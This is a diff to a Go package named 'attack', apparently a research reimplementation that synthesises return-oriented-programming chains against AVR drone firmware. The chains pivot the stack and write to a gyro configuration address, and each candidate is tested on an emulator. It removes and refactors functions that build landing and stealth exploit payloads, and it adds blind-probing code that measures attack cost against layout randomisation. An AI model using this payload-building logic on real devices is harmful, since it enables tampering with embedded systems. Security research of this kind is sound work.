@@ -2,7 +2,6 @@ package attack
 
 import (
 	"errors"
-	"fmt"
 	"math/rand"
 	"sort"
 
@@ -14,13 +13,14 @@ import (
 	"mavr/internal/gadget"
 )
 
-// Chain synthesis replaces the hand-authored V1/V2/V3 construction with
-// a search: enumerate every pivot-, store- and loader-shaped entry
-// point in the binary (gadget.PivotShapes/StoreRuns/PopChains — the
-// canonical Fig. 4/5 gadgets plus the generalized shapes of the RISC-V
-// ROP catalogue), compose candidate chains over them, and validate each
-// candidate by firing it at an emulated copy of the victim. The search
-// is coverage-guided in two phases, using the emulator as the oracle:
+// Chain synthesis searches for the gadgets that BuildV1/V2/V3 take from
+// the canonical Fig. 4/5 matches: enumerate every pivot-, store- and
+// loader-shaped entry point in the binary (gadget.PivotShapes/
+// StoreRuns/PopChains — the canonical gadgets plus the generalized
+// shapes of the RISC-V ROP catalogue), compose candidate chains over
+// them with the same builders (chain.go), and validate each candidate
+// by firing it at an emulated copy of the victim. The search is
+// coverage-guided in two phases, using the emulator as the oracle:
 //
 //  1. landing — find a writer (loader+store composition) whose chain
 //     gets the marker write into data space at all, crash tolerated;
@@ -30,22 +30,6 @@ import (
 //
 // Everything is deterministic: candidate order is a pure function of
 // the image and the options' Seed, and the emulator is cycle-exact.
-
-// WriterShape is a composed write primitive: enter at LoadAddr to pop
-// LoadPops (which must cover Y and the stored registers), return into
-// StoreAddr to perform three stores at Y+QBase..Y+QBase+2, after which
-// the store entry's own TailPops run (junk) and its ret continues the
-// chain. Fused writers are Fig. 5-style — the store's own pop tail is
-// the loader; split writers borrow a separate pop-chain gadget.
-type WriterShape struct {
-	LoadAddr  uint32
-	LoadPops  []int
-	StoreAddr uint32
-	StoreRegs [3]int
-	QBase     int
-	TailPops  []int
-	Fused     bool
-}
 
 // SynthOptions tunes a synthesis run.
 type SynthOptions struct {
@@ -64,12 +48,16 @@ type SynthOptions struct {
 	GadgetWords int
 }
 
+// synthMarker is the write a search lands when none is requested: a
+// 3-byte marker at the gyro config address.
+var synthMarker = Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{0x5A, 0xA5, 0x3C}}
+
 func (o SynthOptions) withDefaults() SynthOptions {
 	if o.MaxAttempts == 0 {
 		o.MaxAttempts = 64
 	}
 	if o.Write.Addr == 0 {
-		o.Write = Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{0x5A, 0xA5, 0x3C}}
+		o.Write = synthMarker
 	}
 	if o.GadgetWords == 0 {
 		o.GadgetWords = 24
@@ -324,121 +312,6 @@ func coversAll(have, need []int) bool {
 	return true
 }
 
-// synthVals maps a Write onto a writer shape's popped registers: Y aims
-// at Addr-QBase and the store registers carry the values.
-func synthVals(wr *WriterShape, w Write) map[int]byte {
-	y := w.Addr - uint16(wr.QBase)
-	return map[int]byte{
-		28:              byte(y),
-		29:              byte(y >> 8),
-		wr.StoreRegs[0]: w.Vals[0],
-		wr.StoreRegs[1]: w.Vals[1],
-		wr.StoreRegs[2]: w.Vals[2],
-	}
-}
-
-// appendWriterRounds emits the load/store alternation for writes onto
-// c, assuming the loader entry has already been returned into. final
-// maps the last loader frame (terminating pivot aim, or junk).
-func appendWriterRounds(c *chain, wr *WriterShape, writes []Write, final map[int]byte) {
-	c.popFrame(wr.LoadPops, synthVals(wr, writes[0]))
-	for _, w := range writes[1:] {
-		c.ret(wr.StoreAddr)
-		if !wr.Fused {
-			c.popFrame(wr.TailPops, nil)
-			c.ret(wr.LoadAddr)
-		}
-		c.popFrame(wr.LoadPops, synthVals(wr, w))
-	}
-	c.ret(wr.StoreAddr)
-	if !wr.Fused {
-		c.popFrame(wr.TailPops, nil)
-		if final != nil {
-			c.ret(wr.LoadAddr)
-		}
-	}
-	if final != nil {
-		c.popFrame(wr.LoadPops, final)
-	}
-}
-
-// landingPayloadFor builds a V1-grade payload: the overwritten return
-// address enters the writer, the writes execute, the chain ends in
-// garbage and the board crashes with the write landed.
-func landingPayloadFor(a *Analysis, wr *WriterShape, writes ...Write) ([]byte, error) {
-	if len(writes) == 0 {
-		return nil, fmt.Errorf("attack: synthesis needs at least one write")
-	}
-	var c chain
-	c.ret(wr.LoadAddr)
-	appendWriterRounds(&c, wr, writes, nil)
-	if wr.Fused {
-		c.popFrame(wr.LoadPops, nil)
-	}
-	c.ret(0x3FFFFF)
-
-	p := make([]byte, a.PayloadLen(), 256)
-	for i := range p {
-		p[i] = 0x42
-	}
-	copy(p[a.retSlot():], c.buf[:3])
-	p = append(p, c.buf[3:]...)
-	if len(p) > 255 {
-		return nil, ErrPayloadTooLong
-	}
-	if int(a.S0)+len(p)-a.retSlot() > avr.DataSpaceSize-1 {
-		return nil, ErrPayloadTooLong
-	}
-	return p, nil
-}
-
-// stealthPayloadFor builds a V2-grade payload: pivot into the buffer,
-// perform the write, repair the frame for pv and return cleanly.
-func stealthPayloadFor(a *Analysis, pv *gadget.StkMove, wr *WriterShape, userWrites ...Write) ([]byte, error) {
-	writes := append(append([]Write(nil), userWrites...), repairWritesFor(a, pv)...)
-	finalSP := cleanSPFor(a, pv)
-	var c chain
-	c.popFrame(pv.PopRegs, nil) // consumed by the pivoting stk_move's own tail
-	c.ret(wr.LoadAddr)
-	appendWriterRounds(&c, wr, writes, map[int]byte{
-		28: byte(finalSP),
-		29: byte(finalSP >> 8),
-	})
-	c.ret(pv.Addr)
-	return assembleSynthPivot(a, pv, c.buf, a.BufAddr)
-}
-
-// assembleSynthPivot is assemblePivotPayload generalized to an
-// arbitrary pivot shape: the saved slots of the registers the pivot
-// reads into SPH/SPL carry the buffer address, the return slot carries
-// the pivot entry.
-func assembleSynthPivot(a *Analysis, pv *gadget.StkMove, ch []byte, pivotTo uint16) ([]byte, error) {
-	hSlot, lSlot := a.popSlot(pv.SPHReg), a.popSlot(pv.SPLReg)
-	if hSlot < 0 || lSlot < 0 {
-		return nil, fmt.Errorf("%w: r%d/r%d", ErrPivotUnsaved, pv.SPHReg, pv.SPLReg)
-	}
-	limit := hSlot
-	if lSlot < limit {
-		limit = lSlot
-	}
-	if len(ch) > limit {
-		return nil, fmt.Errorf("%w: chain %d bytes, frame allows %d", ErrPayloadTooLong, len(ch), limit)
-	}
-	p := make([]byte, a.PayloadLen())
-	for i := range p {
-		p[i] = 0x42
-	}
-	copy(p, ch)
-	pivot := pivotTo - 1
-	p[lSlot] = byte(pivot)
-	p[hSlot] = byte(pivot >> 8)
-	rs := a.retSlot()
-	p[rs] = byte(pv.Addr >> 16)
-	p[rs+1] = byte(pv.Addr >> 8)
-	p[rs+2] = byte(pv.Addr)
-	return p, nil
-}
-
 // Emulator probing. A crashed candidate faults within a few hundred
 // thousand cycles; the budget only bounds chains that hang the firmware
 // without faulting.
@@ -542,7 +415,7 @@ func SynthesisCostCurve(app firmware.AppSpec, epochs, budget int, seed int64) ([
 			// probing fresh candidate addresses — one observable crash per
 			// guess against an n!-sized layout space (§VIII-A) — until the
 			// budget runs out.
-			blind, found, perr := blindProbes(img.ELF, target, budget-pt.Attempts, seed+int64(e))
+			blind, found, perr := blindProbes(res.frame, target, budget-pt.Attempts, seed+int64(e))
 			if perr != nil {
 				return nil, perr
 			}
@@ -558,29 +431,12 @@ func SynthesisCostCurve(app firmware.AppSpec, epochs, budget int, seed int64) ([
 // blindProbes fires V1-grade probes at assumed-shape candidates drawn
 // deterministically over the target's word space, reporting probes
 // spent and whether one landed.
-func blindProbes(elf *elfobj.File, target []byte, budget int, seed int64) (int, bool, error) {
-	if budget <= 0 {
-		return 0, false, nil
-	}
-	frame, err := AnalyzeFrame(elf)
-	if err != nil {
-		return 0, false, err
-	}
-	sim, err := NewSim(target)
-	if err != nil {
-		return 0, false, err
-	}
-	marker := Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{0x5A, 0xA5, 0x3C}}
+func blindProbes(frame *Analysis, target []byte, budget int, seed int64) (int, bool, error) {
 	words := uint64(len(target) / 2)
+	var candidates []uint32
 	for i := 1; i <= budget; i++ {
-		c := uint32(mix64(seed, uint64(i)) % words)
-		payload, err := BuildV1(frame.AssumeWriteMem(c), marker)
-		if err != nil {
-			return i, false, err
-		}
-		if probePayload(sim, target, payload, marker).landed {
-			return i, true, nil
-		}
+		candidates = append(candidates, uint32(mix64(seed, uint64(i))%words))
 	}
-	return budget, false, nil
+	res, err := hunt(func() ([]byte, error) { return target, nil }, frame, candidates, synthMarker)
+	return res.Probes, res.Found, err
 }
